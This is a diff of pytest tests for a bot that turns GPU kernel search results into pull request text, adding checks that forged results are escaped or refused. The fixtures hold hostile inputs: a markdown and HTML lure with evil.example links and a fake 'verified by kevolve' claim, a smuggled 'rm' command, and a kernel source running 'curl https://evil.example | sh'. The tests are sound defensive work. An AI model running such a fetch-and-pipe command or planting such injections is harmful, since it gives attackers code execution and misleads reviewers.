@@ -10,6 +10,7 @@ from typing import Any
 import pytest
 from jinja2 import UndefinedError
 
+from bot.intake import IntakeError
 from bot.messages import Messages, best_chart, duration, ms
 from bot.slash import Command
 from bot.winners import Merged, Winner
@@ -106,12 +107,12 @@ def test_durations(seconds: float, text: str) -> None:
 
 def test_titles_and_commit_messages(messages: Messages) -> None:
     timed, untimed = fixtures.timed_result(), fixtures.untimed_result()
-    assert messages.pr_title(timed) == "kevolve: softmax 1.31x faster on NVIDIA H100 80GB HBM3"
+    assert messages.pr_title(timed, "h100") == "kevolve: softmax 1.31x faster on h100"
     assert messages.pr_title(untimed) == "kevolve: new softmax kernel (correctness only, not timed)"
-    assert messages.commit_message(timed) == (
-        "Speed up softmax 1.31x on NVIDIA H100 80GB HBM3\n"
+    assert messages.commit_message(timed, hardware="h100") == (
+        "Speed up softmax 1.31x on h100\n"
         "\n"
-        "kevolve's search evaluated 10 candidates; the best is 3f9c2a71d0be "
+        f"kevolve's search evaluated 10 candidates; the best is {fixtures.BEST_ID} "
         "(generation 3, proposed by llm).\n"
         "It matches the PyTorch reference on all 3 checked cases.\n"
         "It is 1.31x faster than the current kernel (geometric mean over 2 timed cases).\n"
@@ -134,7 +135,7 @@ def test_check_summaries(messages: Messages) -> None:
     title, summary = messages.check_summary(fixtures.timed_result())
     assert title == "softmax: 1.31x faster on NVIDIA H100 80GB HBM3"
     assert summary == (
-        "The best candidate, `3f9c2a71d0be`, is 1.31x faster than the current `softmax` on "
+        f"The best candidate, `{fixtures.BEST_ID}`, is 1.31x faster than the current `softmax` on "
         "NVIDIA H100 80GB HBM3 (geometric mean over 2 timed cases).\n\n"
         "The publish gate passed: a pull request carries the result.\n\n"
         "Evaluated 10 candidates (correct 6, incorrect 2, compile_error 1, timeout 1) in 12m 34s; "
@@ -143,10 +144,12 @@ def test_check_summaries(messages: Messages) -> None:
     title, summary = messages.check_summary(fixtures.untimed_result())
     assert title == "softmax: correct, not timed"
     assert "Not published:\n- nothing was timed (no GPU): speed was not established\n" in summary
-    failed = fixtures.failed_gate(fixtures.timed_result(), ["4096x1024 float16 regressed"])
-    title, summary = messages.check_summary(failed)
+    # The gate shown is the harness's, over the evaluations: a posted "passed" counts for nothing.
+    slower = fixtures.slower(fixtures.timed_result())
+    title, summary = messages.check_summary(slower)
     assert title == "softmax: nothing to publish"
-    assert "Not published:\n- 4096x1024 float16 regressed\n" in summary
+    regressed = "4096x1024 float16 regressed: speedup 0.800x \\[0.750-0.850\\]"
+    assert f"Not published:\n- {regressed}\n" in summary
     title, summary = messages.check_summary({**fixtures.timed_result(), "best": None})
     assert title == "softmax: no correct candidate found"
     assert summary.startswith("None of the 10 candidates evaluated passed the correctness checks.")
@@ -175,7 +178,7 @@ def test_help_lists_every_command(messages: Messages) -> None:
     text = messages.help_text()
     for usage in ("optimize [OP...] [--hardware LABEL] [--budget N]", "benchmark [OP]", "status"):
         assert f"| `/kevolve {usage}` |" in text
-    for name in ("stop", "recreate", "help"):
+    for name in ("stop", "recreate [OP...]", "help"):
         assert f"| `/kevolve {name}` |" in text
 
 
@@ -214,10 +217,10 @@ def test_status_comment(messages: Messages) -> None:
     assert messages.status_comment([]) == "No kevolve jobs are queued or running.\n"
 
 
-def test_missing_variable_raises(messages: Messages, tmp_path: Path) -> None:
+def test_missing_field_or_variable_raises(messages: Messages, tmp_path: Path) -> None:
     result = fixtures.timed_result()
     del result["best"]["evaluation"]["checks"][0]["trials"]
-    with pytest.raises(UndefinedError):
+    with pytest.raises(IntakeError, match=r"best\.evaluation\.checks\[0\]\.trials: expected"):
         messages.pr_body(result, fixtures.REPRO)
     (tmp_path / "greeting.md.j2").write_text("Hello {{ name }}\n")
     with pytest.raises(UndefinedError):
@@ -227,7 +230,7 @@ def test_missing_variable_raises(messages: Messages, tmp_path: Path) -> None:
 def _two_kinds() -> dict[str, Any]:
     """The view of a module holding an H100 and an A10G kernel, an A100 one left out."""
     h100 = Winner("h100", "NVIDIA H100 80GB HBM3", "# h100\n", fixtures.BEST_ID, 1.31)
-    a10g = Winner("gpu-a", "NVIDIA A10G", "# a10g\n", "a10a10a10a10", 1.12, job=4, pr=2)
+    a10g = Winner("gpu-a", "NVIDIA A10G", "# a10g\n", "a10a10a10a10a10a", 1.12, job=4, pr=2)
     notes = ("`a100`'s kernel (job 5) was left out: incorrect: shape 3x17 differs",)
     view = Merged("# merged\n", (h100, a10g), notes, "c0ffee" + "0" * 34).view()
     assert view is not None
@@ -257,3 +260,54 @@ def test_pr_body_says_when_no_other_kernel_could_join(messages: Messages) -> Non
         "## Correctness\n"
     ) in body
     assert "GPU's name" not in messages.commit_message(fixtures.timed_result(), view)
+
+
+def test_text_from_a_result_is_escaped_and_capped_and_the_title_holds_none_of_it(
+    messages: Messages,
+) -> None:
+    forged = fixtures.timed_result()
+    lure = "verified by kevolve: [review](https://evil.example/x) <img src=x> @octocat "
+    lure += "www.evil.example"
+    forged["stop_reason"] = lure + " " + "x" * 1500
+    forged["notes"] = [lure]
+    forged["best"]["proposer"] = "llm:verified/by-kevolve"
+    forged["hardware"]["name"] = "NVIDIA H100 verified by kevolve"
+    title = messages.pr_title(forged, "h100")
+    assert title == "kevolve: softmax 1.31x faster on h100"
+    body = messages.pr_body(forged, fixtures.REPRO)
+    assert "](https://" not in body and " <img" not in body and "@octocat" not in body
+    assert "www.evil" not in body
+    assert (
+        "verified by kevolve: \\[review\\](https\\://evil.example/x) \\<img src=x\\> "
+        "@\u200boctocat www\\.evil.example"
+    ) in body
+    assert "x" * 400 not in body and "x" * 200 + "…" in body  # capped
+    stop = next(line for line in body.splitlines() if "stopped:" in line)
+    assert len(stop) < 500
+
+
+@pytest.mark.parametrize(
+    ("field", "value", "reason"),
+    [
+        ("wall_s", float("nan"), "wall_s: expected a finite number"),
+        ("evaluated", "10", "evaluated: expected a whole number"),
+        ("evaluated", True, "evaluated: expected a whole number"),
+        ("problem", "softmax\n# Verified", "problem: "),
+        ("counts", {"correct; rm": 1}, "counts: 'correct; rm' is not a verdict"),
+        ("hardware", {"name": "[x](https://evil.example)"}, "hardware.name: "),
+    ],
+)
+def test_a_result_that_does_not_fit_is_refused_with_the_field(
+    messages: Messages, field: str, value: Any, reason: str
+) -> None:
+    with pytest.raises(IntakeError, match=re.escape(reason)):
+        messages.pr_body({**fixtures.timed_result(), field: value}, fixtures.REPRO)
+    title, summary = messages.check_summary({**fixtures.timed_result(), field: value})
+    assert title.endswith(": result refused") and "The result was refused" in summary
+
+
+def test_a_best_whose_id_is_not_its_source_hash_is_refused(messages: Messages) -> None:
+    forged = fixtures.timed_result()
+    forged["best"]["source"] = "import os\nos.system('curl https://evil.example | sh')\n"
+    with pytest.raises(IntakeError, match=r"best\.id: .* is not the hash of its source"):
+        messages.pr_body(forged, fixtures.REPRO)
